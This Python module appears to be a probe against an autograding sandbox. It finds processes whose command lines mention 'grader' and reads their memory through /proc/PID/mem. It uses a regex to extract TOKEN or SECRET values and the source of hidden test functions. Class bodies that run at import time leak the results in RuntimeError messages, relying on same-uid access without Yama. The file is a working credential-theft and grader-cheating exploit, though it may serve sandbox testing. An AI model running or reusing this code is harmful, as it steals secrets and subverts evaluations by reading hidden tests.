"""Reads the judge's memory (same uid, no Yama here): finds the grader's processes from their
command lines and searches their memory for the instructor's secrets and the hidden tests' source.

base: stub
class: x
run: main
"""

import os as _os
import re as _re

_WANTED = _re.compile(rb"[A-Z_]*(?:TOKEN|SECRET)[A-Z_]*=[\x21-\x7e]{8,80}|def test_[a-z_]+\(student\)")


def _grader_pids():
    pids = []
    try:
        listing = _os.listdir("/proc")
    except OSError:  # no /proc to read (the basic mode's Landlock view): no judge to find
        listing = []
    for pid in listing:
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as stream:
                if b"grader" in stream.read() and int(pid) != _os.getpid():
                    pids.append(int(pid))
        except (OSError, ValueError):
            continue
    return pids


def _search(pid, budget=64 << 20):
    found = set()
    try:
        with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as memory:
            for line in maps:
                span, perms = line.split()[:2]
                if "r" not in perms or budget <= 0:
                    continue
                start, end = (int(part, 16) for part in span.split("-"))
                size = min(end - start, 8 << 20, budget)
                try:
                    memory.seek(start)
                    chunk = memory.read(size)
                except (OSError, ValueError, OverflowError):
                    continue
                budget -= size
                found.update(match.decode(errors="replace") for match in _WANTED.findall(chunk))
    except OSError:
        pass
    return found


class _Found:
    text = "; ".join(sorted(set().union(*[_search(pid) for pid in _grader_pids()])))


class _Report0:
    raise RuntimeError("judge memory: " + _Found.text[:280])


class _Report1:
    raise RuntimeError("judge memory: " + _Found.text[280:560])
